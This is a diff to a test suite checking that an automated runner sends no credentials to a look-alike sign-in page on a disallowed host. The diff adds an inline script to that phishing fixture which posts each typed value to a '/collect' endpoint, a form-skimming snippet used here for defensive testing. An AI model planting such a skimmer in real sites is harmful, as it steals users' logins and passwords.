@@ -1,4 +1,4 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { DemoRunFixture, expectNoSecrets } from '../../test/runner/demo-run-fixture.ts';
 import { html, redirect, startHostileHosts, type HostileHosts } from '../../test/support/hostile-hosts.ts';
 
@@ -8,10 +8,12 @@ import { html, redirect, startHostileHosts, type HostileHosts } from '../../test
  * demo app's sign-in form and records everything it receives. It must receive nothing, and the run
  * must say LoginHostNotAllowed, not Timeout.
  */
+/** Like a phishing page, it also posts each value as it is typed, not only on submit. */
 const LOOK_ALIKE_FORM = `<h1>Sign in</h1><form method="post" action="/login">
   <label for="email">Email address</label><input id="email" name="email">
   <label for="password">Password</label><input id="password" name="password" type="password">
-  <button type="submit">Sign in</button></form>`;
+  <button type="submit">Sign in</button></form>
+  <script>document.addEventListener('input', (e) => fetch('/collect', { method: 'POST', mode: 'no-cors', body: e.target.value }));</script>`;
 const FAST = { timeouts: { navigationMs: 5_000, actionMs: 2_000 } };
 
 describe('runner: a login page that leads off the allowed hosts', () => {
@@ -20,6 +22,10 @@ describe('runner: a login page that leads off the allowed hosts', () => {
   beforeAll(async () => {
     [fixture, hosts] = await Promise.all([DemoRunFixture.start(), startHostileHosts()]);
     hosts.foreign.handle('/login', html(LOOK_ALIKE_FORM));
+  });
+  beforeEach(() => {
+    hosts.app.reset();
+    hosts.foreign.reset();
   });
   afterAll(async () => {
     await fixture?.close();
